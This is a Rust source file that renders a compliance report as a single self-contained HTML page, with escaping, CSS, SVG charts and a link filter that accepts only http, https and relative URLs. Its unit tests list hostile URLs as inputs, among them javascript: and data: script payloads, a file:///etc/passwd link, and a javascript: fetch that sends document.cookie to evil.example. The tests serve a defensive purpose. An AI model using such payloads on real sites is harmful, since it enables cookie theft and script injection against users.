//! The compliance report as one self-contained HTML file: inline CSS and
//! SVG, no scripts or fonts fetched from anywhere, readable on screen and in
//! print.

use std::fmt::Write;

use super::compliance::{ComplianceReport, ControlResult, ControlStatus, PolicyResult};
use crate::model::{MuteRef, Severity, Status};

/// Escape text for HTML or XML content and attribute values.
pub fn esc(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// `url` as the value of an `href`, when it is a link a report may carry:
/// `http:` or `https:`, or relative (a path, `?query` or `#anchor`, no
/// scheme). `javascript:`, `data:`, `vbscript:`, `file:` and every other
/// scheme give `None`, and the caller shows the text without a link. The
/// scheme is read as a browser reads it: tabs and line breaks anywhere and
/// leading spaces and controls are ignored, case does not matter.
pub fn safe_href(url: &str) -> Option<String> {
    let seen: String = url
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let end = seen.find(['/', '?', '#']).unwrap_or(seen.len());
    if let Some((scheme, _)) = seen[..end].split_once(':') {
        let scheme = scheme.to_ascii_lowercase();
        if scheme != "http" && scheme != "https" {
            return None;
        }
    }
    Some(esc(url.trim()))
}

/// A link to `url` showing `url`, or only the text when the link is not safe.
fn link(url: &str) -> String {
    match safe_href(url) {
        Some(href) => format!(
            r#"<a href="{href}" rel="noopener noreferrer">{}</a>"#,
            esc(url)
        ),
        None => format!("<span>{}</span>", esc(url)),
    }
}

fn status_label(s: ControlStatus) -> &'static str {
    match s {
        ControlStatus::Pass => "Pass",
        ControlStatus::Fail => "Fail",
        ControlStatus::Error => "Error",
        ControlStatus::Manual => "Manual",
        ControlStatus::NotApplicable => "Not applicable",
        ControlStatus::NotCovered => "Not covered",
    }
}

const CSS: &str = r#"
:root{--ink:#1c2333;--muted:#5b6475;--line:#e3e7ee;--bg:#f5f7fa;--card:#fff;--pass:#1f8a4c;--fail:#c62f2f;--error:#8a4bd1;--manual:#66707f;--na:#9aa3b2;--accent:#1d4ed8}
*{box-sizing:border-box}body{margin:0;font:14px/1.5 -apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,"Helvetica Neue",Arial,sans-serif;color:var(--ink);background:var(--bg)}
header{background:#101827;color:#fff;padding:28px 40px 24px}header .brand{font-size:12px;letter-spacing:.12em;text-transform:uppercase;color:#9db3d9}
header h1{margin:6px 0 4px;font-size:24px;font-weight:600}header .meta{color:#c8d3e6;font-size:13px}header .meta span{margin-right:18px}
main{max-width:1180px;margin:0 auto;padding:28px 40px 60px}
.summary{display:grid;grid-template-columns:220px 1fr;gap:24px;margin-bottom:28px}
.card{background:var(--card);border:1px solid var(--line);border-radius:10px;padding:20px}
.score{display:flex;flex-direction:column;align-items:center;justify-content:center}.score .label{color:var(--muted);font-size:12px;margin-top:6px;text-align:center}
.tiles{display:grid;grid-template-columns:repeat(6,1fr);gap:12px}.tile{border-radius:8px;padding:12px 14px;background:var(--bg);border:1px solid var(--line)}
.tile .n{font-size:26px;font-weight:650}.tile .t{font-size:12px;color:var(--muted);text-transform:uppercase;letter-spacing:.05em}
.tile.pass .n{color:var(--pass)}.tile.fail .n{color:var(--fail)}.tile.error .n{color:var(--error)}.tile.manual .n{color:var(--manual)}.tile.not_applicable .n,.tile.not_covered .n{color:var(--na)}
.bars{margin-top:18px}.bar{display:grid;grid-template-columns:260px 1fr 90px;gap:12px;align-items:center;margin:6px 0;font-size:13px}
.track{height:10px;border-radius:5px;background:var(--line);overflow:hidden;display:flex}.track i{display:block;height:100%}
.track .p{background:var(--pass)}.track .f{background:var(--fail)}.track .e{background:var(--error)}.track .m{background:var(--manual)}.track .n{background:var(--na)}
h2{font-size:17px;margin:34px 0 10px;padding-bottom:6px;border-bottom:2px solid var(--line)}
details.control{background:var(--card);border:1px solid var(--line);border-radius:8px;margin:8px 0}
details.control>summary{list-style:none;cursor:pointer;display:grid;grid-template-columns:70px 1fr 120px 150px;gap:12px;align-items:center;padding:11px 16px}
details.control>summary::-webkit-details-marker{display:none}details.control[open]>summary{border-bottom:1px solid var(--line)}
.cid{font-weight:650;font-variant-numeric:tabular-nums}.ctitle{font-weight:500}.cmeta{color:var(--muted);font-size:12px;text-align:right}
.pill{display:inline-block;border-radius:999px;padding:2px 10px;font-size:12px;font-weight:600;color:#fff;text-align:center}
.pill.pass{background:var(--pass)}.pill.fail{background:var(--fail)}.pill.error{background:var(--error)}.pill.manual{background:var(--manual)}.pill.not_applicable,.pill.not_covered{background:var(--na)}
.body{padding:14px 18px 18px}.why{color:var(--muted);font-style:italic}
.policy{border-left:3px solid var(--line);padding:6px 0 6px 14px;margin:12px 0}.policy.bad{border-color:var(--fail)}
.ptitle{font-weight:600}.pid{color:var(--muted);font-family:ui-monospace,SFMono-Regular,Menlo,monospace;font-size:12px}
.sev{display:inline-block;font-size:11px;font-weight:700;text-transform:uppercase;border-radius:4px;padding:1px 6px;margin-right:6px;border:1px solid}
.sev.critical{color:#7f1d1d;border-color:#fca5a5;background:#fef2f2}.sev.high{color:#9a3412;border-color:#fdba74;background:#fff7ed}
.sev.medium{color:#854d0e;border-color:#fde047;background:#fefce8}.sev.low{color:#1e40af;border-color:#93c5fd;background:#eff6ff}.sev.info{color:#374151;border-color:#d1d5db;background:#f9fafb}
.counts{font-size:12px;color:var(--muted);margin:4px 0}.counts b.p{color:var(--pass)}.counts b.f{color:var(--fail)}.counts b.e{color:var(--error)}
table{width:100%;border-collapse:collapse;margin:8px 0;font-size:13px}th{text-align:left;color:var(--muted);font-weight:600;font-size:12px;border-bottom:1px solid var(--line);padding:6px 8px}
td{border-bottom:1px solid var(--line);padding:6px 8px;vertical-align:top}td.st{width:60px}td.st.fail{color:var(--fail);font-weight:600}td.st.error{color:var(--error);font-weight:600}td.st.muted{color:var(--na);font-weight:600}
code,.ev{font-family:ui-monospace,SFMono-Regular,Menlo,monospace;font-size:12px}.ev{color:var(--muted);display:block}
.fix{background:var(--bg);border:1px solid var(--line);border-radius:6px;padding:10px 12px;margin-top:8px}.fix h4{margin:0 0 4px;font-size:12px;text-transform:uppercase;letter-spacing:.05em;color:var(--muted)}
.fix pre{white-space:pre-wrap;word-break:break-word;background:#0f172a;color:#e2e8f0;border-radius:6px;padding:8px 10px;margin:6px 0 0;font-size:12px}
.fix a{color:var(--accent)}footer{color:var(--muted);font-size:12px;margin-top:40px;border-top:1px solid var(--line);padding-top:14px}
@media print{body{background:#fff}header{background:#fff;color:var(--ink);border-bottom:2px solid var(--ink)}header .meta{color:var(--muted)}details.control{break-inside:avoid}}
"#;

fn donut(score: Option<f64>) -> String {
    let (pct, text) = match score {
        Some(s) => (s, format!("{s:.0}%")),
        None => (0.0, "n/a".to_string()),
    };
    let r = 52.0_f64;
    let circ = 2.0 * std::f64::consts::PI * r;
    let dash = circ * pct / 100.0;
    let color = if pct >= 80.0 {
        "#1f8a4c"
    } else if pct >= 50.0 {
        "#d97706"
    } else {
        "#c62f2f"
    };
    format!(
        r##"<svg width="140" height="140" viewBox="0 0 140 140" role="img" aria-label="score {text}"><circle cx="70" cy="70" r="{r}" fill="none" stroke="#e3e7ee" stroke-width="14"/><circle cx="70" cy="70" r="{r}" fill="none" stroke="{color}" stroke-width="14" stroke-dasharray="{dash:.2} {circ:.2}" stroke-linecap="round" transform="rotate(-90 70 70)"/><text x="70" y="78" text-anchor="middle" font-size="28" font-weight="700" fill="#1c2333">{text}</text></svg>"##
    )
}

fn severity(s: Severity) -> String {
    format!(r#"<span class="sev {0}">{0}</span>"#, s.as_str())
}

fn policy(p: &PolicyResult, out: &mut String) {
    let bad = p.fail > 0 || p.error > 0;
    let _ = write!(
        out,
        r#"<div class="policy{}"><div>{}<span class="ptitle">{}</span> <span class="pid">{}</span></div><div class="counts"><b class="p">{}</b> passed · <b class="f">{}</b> failed · <b class="e">{}</b> could not be evaluated{}</div>"#,
        if bad { " bad" } else { "" },
        severity(p.severity),
        esc(&p.title),
        esc(&p.rule_id),
        p.pass,
        p.fail,
        p.error,
        match p.muted {
            0 => String::new(),
            n => format!(r#" · <b class="m">{n}</b> muted (accepted risk)"#),
        }
    );
    if !p.resources.is_empty() {
        out.push_str("<table><thead><tr><th>Result</th><th>Resource</th><th>Account / region</th><th>Finding and evidence</th></tr></thead><tbody>");
        for r in &p.resources {
            let st = match (r.status, &r.muted_by) {
                (Status::Fail, None) => "fail",
                (Status::Fail, Some(_)) => "muted",
                _ => "error",
            };
            let name = if r.name.is_empty() { &r.id } else { &r.name };
            let _ = write!(
                out,
                r#"<tr><td class="st {st}">{st}</td><td><b>{}</b><span class="ev">{}</span></td><td>{}<span class="ev">{}</span></td><td>{}"#,
                esc(name),
                esc(&r.id),
                esc(&r.account),
                esc(&r.region),
                esc(&r.message)
            );
            if let Some(m) = &r.muted_by {
                out.push_str(&muted_note(m));
            }
            for e in &r.evidence {
                let _ = write!(
                    out,
                    r#"<span class="ev">{} = {} <i>(expected {})</i></span>"#,
                    esc(&e.path),
                    esc(&e.actual.to_string()),
                    esc(&e.expected)
                );
            }
            out.push_str("</td></tr>");
        }
        out.push_str("</tbody></table>");
    }
    let fix = &p.remediation;
    if bad && (!fix.guidance.is_empty() || fix.cli.is_some() || fix.console.is_some()) {
        out.push_str(r#"<div class="fix"><h4>Remediation</h4>"#);
        if !fix.guidance.is_empty() {
            let _ = write!(out, "<div>{}</div>", esc(fix.guidance.trim()));
        }
        if let Some(c) = &fix.console {
            let _ = write!(out, "<div><b>Console:</b> {}</div>", esc(c.trim()));
        }
        if let Some(c) = &fix.cli {
            let _ = write!(out, "<pre>{}</pre>", esc(c.trim()));
        }
        for url in &fix.references {
            let _ = write!(out, "<div>{}</div>", link(url));
        }
        out.push_str("</div>");
    }
    out.push_str("</div>");
}

/// Why a failure is muted: the mute's reason, owner and expiry.
fn muted_note(m: &MuteRef) -> String {
    let mut who = String::new();
    if let Some(o) = &m.owner {
        let _ = write!(who, " · owner {}", esc(o));
    }
    if let Some(e) = &m.expires {
        let _ = write!(who, " · until {}", esc(e));
    }
    format!(
        r#"<span class="ev"><b>Muted</b> ({}): {}{}</span>"#,
        esc(&m.id),
        esc(&m.reason),
        who
    )
}

fn control(c: &ControlResult, out: &mut String) {
    let failing: usize = c.policies.iter().map(|p| p.fail).sum();
    let meta = match c.status {
        ControlStatus::Manual => "manual check".to_string(),
        ControlStatus::NotCovered => "no policy yet".to_string(),
        _ => format!(
            "{} polic{} · {failing} failing",
            c.policies.len(),
            if c.policies.len() == 1 { "y" } else { "ies" }
        ),
    };
    let open = if matches!(c.status, ControlStatus::Fail | ControlStatus::Error) {
        " open"
    } else {
        ""
    };
    let _ = write!(
        out,
        r#"<details class="control"{open}><summary><span class="cid">{}</span><span class="ctitle">{}</span><span><span class="pill {}">{}</span></span><span class="cmeta">{}{}</span></summary><div class="body">"#,
        esc(&c.id),
        esc(&c.title),
        c.status.as_str(),
        status_label(c.status),
        esc(&meta),
        c.profile
            .as_ref()
            .map(|p| format!(" · {}", esc(p)))
            .unwrap_or_default()
    );
    if let Some(why) = &c.why_manual {
        let _ = write!(out, r#"<p class="why">Manual: {}</p>"#, esc(why.trim()));
    }
    if c.status == ControlStatus::NotCovered {
        out.push_str(
            r#"<p class="why">No Stance policy implements this automated control yet.</p>"#,
        );
    }
    if c.status == ControlStatus::NotApplicable {
        out.push_str(
            r#"<p class="why">The policies of this control found no resource in scope.</p>"#,
        );
    }
    for p in &c.policies {
        policy(p, out);
    }
    out.push_str("</div></details>");
}

/// Render the report as one HTML document.
pub fn render(r: &ComplianceReport) -> String {
    let mut out = String::with_capacity(64 * 1024);
    header(r, &mut out);
    let sections = sections(r);
    summary(r, &sections, &mut out);
    for (name, ctls) in &sections {
        let _ = write!(out, "<h2>{}</h2>", esc(name));
        for ctl in ctls {
            control(ctl, &mut out);
        }
    }
    footer(r, &mut out);
    out
}

/// The document's head and the report's header: framework, scope, scan.
fn header(r: &ComplianceReport, out: &mut String) {
    let title = format!(
        "{} {} — Stance compliance report",
        r.framework.name, r.framework.version
    );
    let _ = write!(
        out,
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>{}</title><style>{CSS}</style></head><body>"#,
        esc(&title)
    );
    let scope = r.scan.scope.split(':').collect::<Vec<_>>();
    let accounts = scope.get(1).copied().unwrap_or("");
    let regions = scope.get(2).copied().unwrap_or("");
    let _ = write!(
        out,
        r#"<header><div class="brand">Stance · compliance report</div><h1>{} <span style="font-weight:400">v{}</span></h1><div class="meta"><span>Accounts: {}</span><span>Regions: {}</span><span>Scan #{} of {}</span><span>Scanned {}</span><span>Report generated {}</span></div></header><main>"#,
        esc(&r.framework.name),
        esc(&r.framework.version),
        esc(accounts),
        esc(regions),
        r.scan.id,
        esc(&r.scan.source),
        esc(&r.scan.finished_at),
        esc(&r.generated_at)
    );
}

/// The controls grouped by section, in the catalogue's order.
fn sections(r: &ComplianceReport) -> Vec<(String, Vec<&ControlResult>)> {
    let mut sections: Vec<(String, Vec<&ControlResult>)> = Vec::new();
    for ctl in &r.controls {
        let name = ctl.section.clone().unwrap_or_else(|| "Controls".into());
        match sections.iter_mut().find(|(n, _)| *n == name) {
            Some((_, v)) => v.push(ctl),
            None => sections.push((name, vec![ctl])),
        }
    }
    sections
}

/// The score, the counts by status and a bar per section.
fn summary(r: &ComplianceReport, sections: &[(String, Vec<&ControlResult>)], out: &mut String) {
    let c = &r.counts;
    let _ = write!(
        out,
        r#"<section class="summary"><div class="card score">{}<div class="label">of the automated controls pass</div></div><div class="card"><div class="tiles">"#,
        donut(r.score)
    );
    for (class, n, label) in [
        ("pass", c.pass, "Pass"),
        ("fail", c.fail, "Fail"),
        ("error", c.error, "Error"),
        ("manual", c.manual, "Manual"),
        ("not_applicable", c.not_applicable, "Not applicable"),
        ("not_covered", c.not_covered, "Not covered"),
    ] {
        let _ = write!(
            out,
            r#"<div class="tile {class}"><div class="n">{n}</div><div class="t">{label}</div></div>"#
        );
    }
    out.push_str(r#"</div><div class="bars">"#);
    for (name, ctls) in sections {
        let n = ctls.len().max(1) as f64;
        let share =
            |s: ControlStatus| 100.0 * ctls.iter().filter(|c| c.status == s).count() as f64 / n;
        let passed = ctls
            .iter()
            .filter(|c| c.status == ControlStatus::Pass)
            .count();
        let _ = write!(
            out,
            r#"<div class="bar"><span>{}</span><span class="track"><i class="p" style="width:{:.1}%"></i><i class="f" style="width:{:.1}%"></i><i class="e" style="width:{:.1}%"></i><i class="m" style="width:{:.1}%"></i><i class="n" style="width:{:.1}%"></i></span><span class="cmeta">{passed} / {} pass</span></div>"#,
            esc(name),
            share(ControlStatus::Pass),
            share(ControlStatus::Fail),
            share(ControlStatus::Error),
            share(ControlStatus::Manual),
            share(ControlStatus::NotApplicable) + share(ControlStatus::NotCovered),
            ctls.len()
        );
    }
    out.push_str("</div></div></section>");
}

/// How the score is computed, and what generated the report.
fn footer(r: &ComplianceReport, out: &mut String) {
    let _ = write!(
        out,
        r#"<footer><p><b>Score</b>: automated controls that pass, divided by those that pass, fail, could not be evaluated (error) or have no policy yet; manual controls and controls with nothing in scope are left out. A control fails when any resource fails one of its policies, and is an error when a policy could not decide for some resource (missing data or permissions) and none failed.</p><p>Generated by Stance {} from scan #{} ({} assets).{}</p></footer></main></body></html>"#,
        esc(&r.stance_version),
        r.scan.id,
        r.scan.assets,
        r.framework
            .url
            .as_ref()
            .map(|u| format!(" Framework: {}.", link(u)))
            .unwrap_or_default()
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_http_https_and_relative_links_become_links() {
        for ok in [
            "https://docs.aws.amazon.com/x?a=1&b=2",
            "HTTP://example.com",
            "#section",
            "docs/guide.html",
            "/abs/path",
            "?q=1",
        ] {
            assert!(safe_href(ok).is_some(), "{ok}");
        }
        for bad in [
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "\u{1}javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox",
            "file:///etc/passwd",
        ] {
            assert_eq!(safe_href(bad), None, "{bad:?}");
            assert!(!link(bad).contains("href"), "{bad:?}: {}", link(bad));
        }
        assert_eq!(
            safe_href("https://x/?a=1&b=\"2\"").as_deref(),
            Some("https://x/?a=1&amp;b=&quot;2&quot;")
        );
    }

    #[test]
    fn a_rules_javascript_reference_is_shown_never_linked() {
        use super::super::compliance::Assessment;
        let policy = PolicyResult {
            rule_id: "r1".into(),
            title: "t".into(),
            severity: Severity::High,
            pass: 0,
            fail: 1,
            muted: 0,
            error: 0,
            resources: Vec::new(),
            remediation: crate::model::Remediation {
                guidance: "fix it".into(),
                references: vec![
                    "javascript:fetch('//evil.example/'+document.cookie)".into(),
                    "https://docs.aws.amazon.com/s3/".into(),
                ],
                ..Default::default()
            },
        };
        let control = ControlResult {
            id: "2.1.1".into(),
            title: "t".into(),
            section: None,
            profile: None,
            assessment: Assessment::Automated,
            status: ControlStatus::Fail,
            why_manual: None,
            policies: vec![policy],
        };
        let mut out = String::new();
        super::control(&control, &mut out);
        assert!(!out.contains("href=\"javascript"), "{out}");
        assert!(out.contains("<span>javascript:fetch("), "{out}");
        assert!(
            out.contains("href=\"https://docs.aws.amazon.com/s3/\""),
            "{out}"
        );
    }
}
